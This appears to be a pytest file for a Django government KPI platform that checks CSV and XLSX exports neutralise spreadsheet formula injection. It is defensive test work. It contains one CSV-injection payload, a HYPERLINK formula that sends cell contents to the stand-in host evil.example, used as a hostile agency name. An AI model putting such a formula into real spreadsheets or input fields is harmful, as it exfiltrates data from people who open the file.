"""Exports never carry a live formula: text that a spreadsheet would run is written as text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from tests import factories
from tests.kpi.conftest import NOW
from thudo.core.spreadsheets import neutralise, restore
from thudo.kpi import actions, compute

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _cells(content: bytes) -> list:
    ws = load_workbook(io.BytesIO(content)).active
    return [cell for row in ws.iter_rows() for cell in row if cell.value is not None]


def _no_formula(content: bytes) -> None:
    cells = _cells(content)
    assert cells
    assert all(cell.data_type != "f" for cell in cells)


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_quoted(value):
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


def test_plain_text_numbers_and_blanks_pass_unchanged():
    assert [neutralise(v) for v in ("Sở Tư pháp", -5, 1.5, None, "")] == ["Sở Tư pháp", -5, 1.5, None, ""]


def test_report_workbook_a_city_admin_downloads_has_no_formula(month, client, city_admin):
    dept, *_ = month
    dept.name = HOSTILE_NAME  # an agency whose name an attacker chose
    dept.save()
    form = actions.create_form(
        by=city_admin,
        code="BC-09",
        name="Báo cáo",
        fields=[{"key": "note", "label": "Ghi chú", "type": "text", "required": True}],
    )
    (assignment,) = actions.assign(
        form, by=city_admin, agencies=[dept], period="2026-10", deadline=compute.this_month(NOW)
    )
    reporter = factories.official(role="agency_admin", agency=dept)
    actions.submit(assignment, by=reporter, values={"note": "=1+1"})
    client.force_login(city_admin)
    response = client.get("/kpi/bieu-mau/BC-09/2026-10.xlsx")
    assert response.status_code == 200
    _no_formula(response.content)
    values = [cell.value for cell in _cells(response.content)]
    assert "'=1+1" in values and "'" + HOSTILE_NAME in values
    # Read back by the platform's own import, the text is what the agency wrote.
    assert actions.import_submissions(form, by=city_admin, data=response.content, period="2026-10") == 1
    assignment.refresh_from_db()
    assert assignment.submission.values["note"] == "=1+1"


def test_ranking_exports_quote_a_hostile_unit_name(month, client, city_admin):
    dept, *_ = month
    dept.name = dept.short_name = HOSTILE_NAME
    dept.save()
    actions.publish("2026-10", by=city_admin)
    xlsx = client.get("/xep-hang/2026-10/v1.xlsx").content
    _no_formula(xlsx)
    assert "'" + HOSTILE_NAME in [cell.value for cell in _cells(xlsx)]
    rows = list(csv.reader(io.StringIO(client.get("/xep-hang/2026-10/v1.csv").content.decode("utf-8-sig"))))
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    assert any(cell == "'" + HOSTILE_NAME for row in rows for cell in row)
    client.force_login(city_admin)
    _no_formula(client.get(f"/kpi/don-vi/{dept.code}/2026-10.xlsx").content)
